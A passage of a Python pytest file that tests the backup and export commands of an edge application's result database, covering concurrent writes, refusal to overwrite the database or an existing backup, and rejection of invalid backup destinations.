                store.add(stored_row(sample_id="S-1"))
                written[0] += 1
        except Exception as error:  # noqa: BLE001 - reported by the assertion below
            errors.append(error)

    writer = threading.Thread(target=app)
    writer.start()
    seen = []
    try:
        for _ in range(5):
            result = run_cli("edge-app", "backup", "--db", db, "--to", stick, timeout=120)
            assert "integrity ok" in result.stderr
            seen.append(_counts(stick / "results.sqlite")[0])
    finally:
        stop.set()
        writer.join()
        store.close()
    assert not errors, errors
    assert seen == sorted(seen) and 0 < seen[-1] <= written[0] and seen[-1] > seen[0]


def test_no_output_option_overwrites_the_database_or_the_backup(tmp_path):
    db, stick = tmp_path / "r.sqlite", tmp_path / "usb"
    stick.mkdir()
    store = ResultStore(db)
    store.add(stored_row(sample_id="S-1"))
    store.close()
    run_cli("edge-app", "backup", "--db", db, "--to", stick, timeout=120)
    before = {path: path.read_bytes() for path in (db, stick / "results.sqlite")}
    refusals = [
        (("export", "--csv", db), "is the database"),
        (("export", "--samples-json", f"{db}-wal"), "is the database"),
        (("export", "--csv", tmp_path / "a.csv", "--samples-csv", tmp_path / "a.csv"), "same file"),
        (("backup", "--to", stick, "--json", db), "is the database"),
        (("backup", "--to", stick, "--json", stick / "results.sqlite"), "is the backup"),
        (("backup", "--to", stick, "--json", stick / "frames" / "b.json"), "backup's images"),
    ]
    for (command, *args), expected in refusals:
        result = run_cli("edge-app", command, "--db", db, *args, check=False, timeout=120)
        assert result.returncode == 2 and expected in result.stderr, (args, result.stderr)
        assert "Traceback" not in result.stderr
    assert {path: path.read_bytes() for path in before} == before
    assert not (tmp_path / "a.csv").exists()


def test_backup_refuses_a_missing_or_wrong_destination_and_creates_nothing(tmp_path):
    from leukedge.edge_app.storage import FrameWriter

    db, frames = tmp_path / "r.sqlite", tmp_path / "frames"
    store = ResultStore(db)
    _field(store, FrameWriter(frames), "S-1", 1)
    store.close()
    unmounted = tmp_path / "media" / "stick"
    for destination, message in (
        (unmounted, "no such folder: plug in and mount the backup disk"),
        (frames, "is --save-dir"),
        (frames / "sub", "is inside --save-dir"),
        (tmp_path, "is --db's folder"),
        (db, "is a file, not a folder"),
        (Path("/proc"), "is not on a disk that can hold files"),
    ):
        if destination.name == "sub":
            destination.mkdir()
        result = run_cli(
            "edge-app", "backup", "--db", db, "--save-dir", frames, "--to", destination,
            check=False, timeout=60,
        )  # fmt: skip
        assert result.returncode == 1 and message in result.stderr, result.stderr
        assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
    assert not unmounted.exists() and not (frames / "sub" / "results.sqlite").exists()
    assert not (tmp_path / "results.sqlite").exists()


def test_backup_never_replaces_another_databases_backup(tmp_path):
    """A new SD card's fresh database, or another Pi's, must not overwrite the archive."""
    stick = tmp_path / "usb"
    stick.mkdir()
    old, new = tmp_path / "old.sqlite", tmp_path / "new.sqlite"
    for db, sample_id, rows in ((old, "S-OLD", 3), (new, "S-NEW", 5)):
        store = ResultStore(db)
        for _ in range(rows):
            store.add(stored_row(sample_id=sample_id))
        store.close()
    run_cli("edge-app", "backup", "--db", old, "--to", stick, timeout=60)
    before = (stick / "results.sqlite").read_bytes()
    refused = run_cli("edge-app", "backup", "--db", new, "--to", stick, check=False, timeout=60)
    assert refused.returncode == 1 and "is not an earlier backup of" in refused.stderr
    assert "results row 3 differs or is missing" in refused.stderr
    assert (stick / "results.sqlite").read_bytes() == before  # the archive is untouched
    # The same database, grown, updates its own backup.
    store = ResultStore(old)
    store.add(stored_row(sample_id="S-OLD"))
    store.close()
    run_cli("edge-app", "backup", "--db", old, "--to", stick, timeout=60)
    assert _counts(stick / "results.sqlite")[0] == 4
    # A file of that name that is not a database is left alone too.
    other = tmp_path / "other"
    other.mkdir()
    (other / "results.sqlite").write_text("someone's notes\n")
    refused = run_cli("edge-app", "backup", "--db", old, "--to", other, check=False, timeout=60)
    assert refused.returncode == 1 and "not an SQLite database" in refused.stderr
    assert (other / "results.sqlite").read_text() == "someone's notes\n"
